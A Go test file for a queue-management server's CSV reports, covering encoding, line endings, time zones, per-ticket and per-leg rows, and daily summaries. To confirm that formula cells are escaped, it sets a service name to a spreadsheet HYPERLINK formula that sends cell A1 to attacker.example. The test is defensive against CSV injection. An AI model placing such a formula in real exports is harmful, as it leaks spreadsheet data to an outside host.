package reports_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hallq/hallq"
	"github.com/hallq/hallq/server/reports"
	"github.com/hallq/hallq/server/servertest"
)

// spreadsheetRows reads a CSV file as Excel and Calc read a downloaded one,
// and fails the test on what would go wrong there: no byte-order mark (the
// Vietnamese turns to mojibake), a line not ended by CRLF, or a cell that
// begins as a formula does ('=', '+', '-', '@', a tab or a carriage return)
// and is not a plain number: opened, it would run.
func spreadsheetRows(t *testing.T, name string, body []byte) [][]string {
	t.Helper()
	s, ok := strings.CutPrefix(string(body), "\ufeff")
	if !ok {
		t.Fatalf("%s: no UTF-8 byte-order mark: %.40q", name, body)
	}
	if n, crlf := strings.Count(s, "\n"), strings.Count(s, "\r\n"); n == 0 || n != crlf {
		t.Errorf("%s: %d line ends, %d of them CRLF", name, n, crlf)
	}
	rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	for i, r := range rows {
		for j, c := range r {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !number.MatchString(c) {
				t.Errorf("%s: row %d cell %d %q would run as a formula", name, i, j, c)
			}
		}
	}
	return rows
}

// column finds a header's column.
func column(t *testing.T, head []string, name string) int {
	t.Helper()
	for i, h := range head {
		if h == name {
			return i
		}
	}
	t.Fatalf("no column %q in %q", name, head)
	return -1
}

// TestTicketLogForSpreadsheets: the ticket log as a person opens it in
// Excel: one row per ticket (a transferred citizen once, its route and
// legs beside it), its id to follow it into the legs file, times in the
// hall's zone with the UTC offset beside them, CRLF, a BOM, and a service
// named like a formula shown as text; the legs file has a row per leg
// under the ticket's id; a summary by service and day in one request.
func TestTicketLogForSpreadsheets(t *testing.T) {
	var mu sync.Mutex
	now := time.Date(2026, 9, 7, 1, 0, 0, 0, time.UTC) // 08:00 in the hall (UTC+07:00)
	clock := func() time.Time { mu.Lock(); defer mu.Unlock(); return now }
	step := func(d time.Duration) { mu.Lock(); now = now.Add(d); mu.Unlock() }
	h := servertest.Start(t, servertest.Options{Now: clock})
	admin, mgr := h.Login("admin"), h.Login("quanly")
	formula := `=HYPERLINK("http://attacker.example/?"&A1,"Chi tiết")`
	if code := h.Do("PUT", "/api/v1/services/B", admin, hallq.Service{Code: "B", NameVI: formula, Prefix: "B", TargetWaitMin: 5}, nil); code != 200 {
		t.Fatalf("renaming service B: %d", code)
	}
	off1, off3 := h.Login("canbo1"), h.Login("canbo3")
	h.Do("POST", "/api/v1/counters/1/open", off1, nil, nil)
	h.Do("POST", "/api/v1/counters/3/open", off3, nil, nil) // B first
	var a, other hallq.Ticket
	h.Do("POST", "/api/v1/tickets", servertest.KioskToken, map[string]string{"service": "A"}, &a)
	step(time.Minute)
	h.Do("POST", "/api/v1/tickets", servertest.KioskToken, map[string]string{"service": "C"}, &other)
	step(9 * time.Minute)
	h.Do("POST", "/api/v1/counters/1/next", off1, nil, nil)
	step(2 * time.Minute)
	if code := h.Do("POST", "/api/v1/counters/1/transfer", off1, hallq.TransferRequest{Service: "B"}, nil); code != 200 {
		t.Fatalf("transfer: %d", code)
	}
	step(3 * time.Minute)
	h.Do("POST", "/api/v1/counters/3/next", off3, nil, nil)
	step(4 * time.Minute)
	h.Do("POST", "/api/v1/counters/3/finish", off3, nil, nil)

	code, body := h.Raw("GET", "/api/v1/reports/tickets?format=csv&lang=en", mgr, nil)
	if code != 200 {
		t.Fatalf("ticket log: %d %s", code, body)
	}
	rows := spreadsheetRows(t, "ticket log", body)
	head := rows[0]
	if len(rows) != 3 {
		t.Fatalf("ticket log: %d rows, want the header and one per ticket (2): %q", len(rows), rows)
	}
	row := rows[1]
	if row[column(t, head, "Ticket id")] != a.ID {
		t.Fatalf("first row is ticket %q, want %s: %q", row[0], a.ID, row)
	}
	want := map[string]string{
		"Number":         a.Label,
		"Issued at":      "2026-09-07 08:00:00",
		"UTC offset":     "UTC+07:00",
		"Called at":      "2026-09-07 08:10:00",
		"Transfers":      "1",
		"Last service":   "'" + formula,
		"Outcome":        "Served",
		"Counter":        "3",
		"Wait (s)":       "780", // 10 min in A, then 3 in B
		"Last called at": "2026-09-07 08:15:00",
		"Finished at":    "2026-09-07 08:19:00",
	}
	for col, w := range want {
		if got := row[column(t, head, col)]; got != w {
			t.Errorf("ticket log, %s: got %q, want %q", col, got, w)
		}
	}
	if got := rows[2][column(t, head, "Outcome")]; got != "Waiting" {
		t.Errorf("the other ticket's outcome: got %q, want Waiting", got)
	}

	code, body = h.Raw("GET", "/api/v1/reports/tickets?format=csv&legs=1&lang=en", mgr, nil)
	legs := spreadsheetRows(t, "legs", body)
	if code != 200 || len(legs) != 4 {
		t.Fatalf("legs: %d, %q; want the header and 3 legs", code, legs)
	}
	lh := legs[0]
	for i, w := range [][3]string{{a.ID, "1", "Transferred"}, {a.ID, "2", "Served"}, {other.ID, "1", "Waiting"}} {
		l := legs[i+1]
		if got := [3]string{l[column(t, lh, "Ticket id")], l[column(t, lh, "Leg")], l[column(t, lh, "Outcome")]}; got != w {
			t.Errorf("leg %d: got %q, want %q", i+1, got, w)
		}
	}
	if got := legs[2][column(t, lh, "Joined the queue at")]; got != "2026-09-07 08:12:00" {
		t.Errorf("the leg joined B's queue at %q, want the transfer's 08:12:00", got)
	}
	if code, _ := h.Raw("GET", "/api/v1/reports/tickets?format=csv&legs=yes", mgr, nil); code != 400 {
		t.Errorf("legs=yes: got %d, want 400", code)
	}

	// By service and day in one request, in JSON and CSV alike.
	step(24 * time.Hour)
	sess, err := h.Client.Login(context.Background(), "quanly", "demo-quanly") // a new day, a new session
	if err != nil {
		t.Fatal(err)
	}
	mgr = sess.Token
	h.Do("POST", "/api/v1/tickets", servertest.KioskToken, map[string]string{"service": "A"}, nil)
	q := "/api/v1/reports/summary?from=2026-09-07&to=2026-09-08&by=service&per_day=1"
	var sum reports.SummaryResponse
	if code := h.Do("GET", q, mgr, nil, &sum); code != 200 {
		t.Fatalf("per day: %d", code)
	}
	var got []string
	for _, r := range sum.Rows {
		got = append(got, fmt.Sprintf("%s %s %d", r.Day, r.Key, r.Issued))
	}
	if w := []string{"2026-09-07 A 1", "2026-09-07 B 0", "2026-09-07 C 1", "2026-09-08 A 1"}; strings.Join(got, ",") != strings.Join(w, ",") {
		t.Errorf("per day rows: got %q, want %q", got, w)
	}
	code, body = h.Raw("GET", q+"&format=csv&lang=en", mgr, nil)
	srows := spreadsheetRows(t, "summary per day", body)
	if code != 200 || len(srows) != 6 || srows[0][0] != "Day" || srows[0][1] != "Service" || srows[1][0] != "2026-09-07" || srows[5][2] != "3" {
		t.Errorf("per day CSV: %d %q", code, srows)
	}
	for _, bad := range []string{"&by=day&per_day=1", "&per_day=2"} {
		if code, _ := h.Raw("GET", "/api/v1/reports/summary?from=2026-09-07"+bad, mgr, nil); code != 400 {
			t.Errorf("%s: got %d, want 400", bad, code)
		}
	}
}
